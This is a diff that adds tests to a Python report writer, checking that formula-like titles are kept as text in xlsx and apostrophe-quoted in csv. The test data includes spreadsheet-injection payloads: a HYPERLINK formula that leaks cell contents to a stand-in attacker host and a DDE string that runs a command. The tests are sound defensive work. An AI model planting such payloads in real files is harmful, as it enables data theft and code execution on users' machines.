@@ -395,3 +395,42 @@ def test_summary_docx_without_a_thai_font_still_has_the_chart(tmp_path: Path,
 
     assert report_docx.find_thai_font() is None
     _assert_summary_docx(_summary_docx(tmp_path))
+
+
+# --- request text never becomes a spreadsheet formula -------------------------------------------
+
+HOSTILE_TITLES = ['=HYPERLINK("http://attacker.example/?"&A1,"คลิก")', "+1+cmd|' /C calc'!A0", "-2+3",
+                  "@SUM(1,2)"]
+
+
+def _hostile_report() -> GroupReport:
+    items = tuple(ReportItem(published_on=date(2023, 11, day), title=title, channels=frozenset({"website"}),
+                             origin="bridge", outcome="=1+1")
+                  for day, title in enumerate(HOSTILE_TITLES, 1))
+    return GroupReport(fiscal_year=2567, round=1, first_day=date(2023, 10, 1), last_day=date(2024, 3, 31),
+                       group_key="finance", group_name="=กลุ่ม", items=items, counts={}, problems=())
+
+
+def test_xlsx_stores_formula_like_text_as_text(tmp_path: Path) -> None:
+    [path] = write_report([_hostile_report()], tmp_path, formats=["xlsx"])
+    sheet = load_workbook(path).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    values = {c.value for c in cells}
+    assert set(HOSTILE_TITLES) <= values and "=1+1" in values  # the text itself, unchanged
+    assert "<f>" not in _sheet_xml(path)
+
+
+def _sheet_xml(path: Path) -> str:
+    import zipfile
+
+    with zipfile.ZipFile(path) as archive:
+        return "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))
+
+
+def test_csv_quotes_formula_like_text_with_an_apostrophe(tmp_path: Path) -> None:
+    [path] = write_report([_hostile_report()], tmp_path, formats=["csv"])
+    with path.open(encoding="utf-8-sig", newline="") as stream:
+        rows = list(csv.reader(stream))[1:]
+    assert [row[2] for row in rows] == [f"'{title}" for title in HOSTILE_TITLES]
+    assert {row[5] for row in rows} == {"'=1+1"}
